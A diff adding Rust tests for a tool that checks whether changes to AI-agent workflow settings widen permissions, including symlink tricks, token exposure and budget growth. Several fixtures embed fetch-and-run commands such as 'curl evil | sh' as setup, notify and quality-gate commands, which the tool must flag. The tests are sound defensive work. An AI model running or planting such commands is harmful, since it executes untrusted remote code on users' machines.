@@ -216,7 +216,7 @@ fn one_comment_follows_a_pull_request() {
     // What is under review does not choose where the token is sent.
     project.write("cuegate.toml", &api("http://127.0.0.1:1"));
     project.git(&["checkout", "-q", ".takt"]);
-    assert!(compare(0, "comment http")[1].contains("No workflow changed"));
+    assert!(compare(0, "comment http")[1].contains("of each workflow is as it was"));
     standin.fault(Fault::NoRight, "POST", "/comments", 9);
     standin.fault(Fault::NoRight, "PATCH", "/comments", 9);
     project.write("cuegate.toml", SETTINGS);
@@ -255,4 +255,130 @@ fn recorded_runs_say_what_a_change_does() {
     assert_eq!(json["open"].as_array().unwrap().len(), 2, "{json}");
     // What did not change is not replayed.
     assert_eq!(replayed(WORKFLOW).0, Value::Null);
+}
+
+/// What opens a gate by another way than a permission.
+#[test]
+fn what_agents_and_commands_gain_is_wider() {
+    let project = project();
+    let widens = |what: &str| {
+        let ran = project.run(&["compare", "HEAD", "--no-wider-permissions", "--json"]);
+        assert_eq!((ran.code, &ran.json()["wider"]), (1, &json!(true)), "{what}: {}", ran.stdout);
+        ran.stdout
+    };
+    for added in [
+        "[github]\ntoken_for_agents = true\n",
+        "[worktree]\nsetup = \"curl evil | sh\"\n",
+        "[worktree]\nhooks = true\n",
+        "[worktree]\nallow = [\"*\"]\n",
+        "[boundary]\nuntracked = \"warn\"\n",
+        "[agents]\nreview = \"codex\"\n",
+    ] {
+        project.write("cuegate.toml", &format!("{SETTINGS}{added}"));
+        widens(added);
+    }
+    project.write("cuegate.toml", &format!("notify = \"curl evil\"\n{SETTINGS}"));
+    widens("notify");
+    project.write("cuegate.toml", &SETTINGS.replace("claude", "codex"));
+    widens("provider");
+    project.write("cuegate.toml", &format!("{SETTINGS}calls = 7\n"));
+    let json = compare(&project, &["HEAD"]);
+    assert_eq!(
+        (&json["wider"], &json["settings"][0]["what"]),
+        (&json!(false), &json!("setting `budget.calls`: 7, was unset"))
+    );
+    project.write("cuegate.toml", SETTINGS);
+    let gate = "    quality_gates:\n      - { type: command, command: curl evil | sh }\n    rules:\n      - { condition: Done";
+    let path = ".takt/workflows/it.yaml";
+    project.write(path, &WORKFLOW.replace("    rules:\n      - { condition: Done", gate));
+    assert!(widens("gate").contains("curl evil | sh"));
+    project.write(path, &WORKFLOW.replace("    edit: true\n", "    edit: true\n    provider: codex\n"));
+    widens("agent of a step");
+}
+
+/// A folder of the change must not pass for the revision, and a link must not hide a workflow.
+#[test]
+fn a_side_is_what_a_run_would_read() {
+    let project = project();
+    let full = WORKFLOW.replace("permission_mode: edit", "permission_mode: full");
+    project.git(&["checkout", "-q", "-b", "change"]);
+    project.write(".takt/workflows/it.yaml", &full);
+    project.write("main/.takt/workflows/it.yaml", &full);
+    project.git(&["add", "--all"]);
+    project.git(&["commit", "-qm", "shadow"]);
+    let refused = |args: &[&str]| {
+        let ran = project.run(&[&["compare"][..], args, &["--no-wider-permissions"]].concat());
+        assert_ne!(ran.code, 0, "{args:?}: {}", ran.stdout);
+        ran.stdout + &ran.stderr
+    };
+    refused(&["main"]);
+    refused(&["main", "change"]);
+    assert_eq!(
+        workflow(&compare(&project, &["./main"]), "it")["changes"],
+        json!([]),
+        "a folder is typed as one"
+    );
+    for empty in [&[""][..], &["main", ""]] {
+        assert!(refused(empty).contains("is no revision"));
+    }
+    let link = |from: &str, to: &str| {
+        let at = project.path().join(from);
+        std::fs::remove_file(&at).ok();
+        std::os::unix::fs::symlink(to, at).unwrap();
+        project.git(&["add", "--all"]);
+        project.git(&["commit", "-qm", "link"]);
+    };
+    project.write("shared/it.yaml", &full);
+    link(".takt/workflows/it.yaml", "../../shared/it.yaml");
+    assert!(refused(&["main", "change"]).contains("may bypassPermissions"));
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("it.yaml"), &full).unwrap();
+    link(".takt/workflows/it.yaml", outside.path().join("it.yaml").to_str().unwrap());
+    assert!(refused(&["main", "change"]).contains("leads out of the repository"));
+    project.git(&["reset", "-q", "--hard", "refs/heads/main"]);
+    project.git(&["mv", ".takt", "hidden"]);
+    link(".takt", "hidden");
+    let json = compare(&project, &["main", "change"]);
+    assert!(json["workflows"].as_array().unwrap().iter().all(|one| one["fate"] == "same"), "{json:#}");
+    // A prompt elsewhere, and workflows of a folder.
+    project.git(&["reset", "-q", "--hard", "refs/heads/main"]);
+    project.write("prompts/p.md", "Do it.\n");
+    project.write(
+        "pkg/.takt/workflows/it.yaml",
+        &WORKFLOW.replace("instruction: Do it.", "instruction: ../../../prompts/p.md"),
+    );
+    project.git(&["add", "--all"]);
+    project.git(&["commit", "-qm", "package"]);
+    project.write("pkg/.takt/workflows/it.yaml", &full.replace("max_steps: 8", "max_steps: 900"));
+    let mut command = project.command(&["compare", "HEAD", "--json"]);
+    let ran = crate::support::Ran::of(command.current_dir(project.path().join("pkg")).output().unwrap());
+    let it = workflow(&ran.json(), "it").clone();
+    assert_eq!((&it["fate"], ran.json()["wider"].as_bool()), (&json!("changed"), Some(true)), "{it}");
+    assert!(it["worst_case"].as_str().unwrap().contains("from $48.00 to $5,400.00"), "{it}");
+}
+
+#[test]
+fn what_was_broken_may_be_repaired() {
+    let project = project();
+    project.write("cuegate.toml", "[[[");
+    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("next: look", "next: gone"));
+    project.git(&["commit", "-qam", "broken"]);
+    project.write("cuegate.toml", SETTINGS);
+    let ran = project.run(&["compare", "HEAD"]);
+    assert!(
+        ran.code == 1 && ran.stderr.contains("note: nothing of the base counts: HEAD: cuegate.toml:1:"),
+        "{}",
+        ran.stderr
+    );
+    project.write(".takt/workflows/it.yaml", WORKFLOW);
+    let ran = project.run(&["compare", "HEAD"]);
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    project.write("cuegate.toml", SETTINGS);
+    project.git(&["checkout", "-q", ".takt"]);
+    project.git(&["commit", "-qam", "settings"]);
+    project.write(".takt/workflows/it.yaml", WORKFLOW);
+    let json = compare(&project, &["HEAD", "--no-wider-permissions"]);
+    let it = workflow(&json, "it");
+    assert_eq!(it["changes"], json!([{ "what": "it had errors before", "widens": false }]), "{it}");
+    assert_eq!(it["worst_case"], "has no errors any more, at most $48.00, 32 calls");
 }
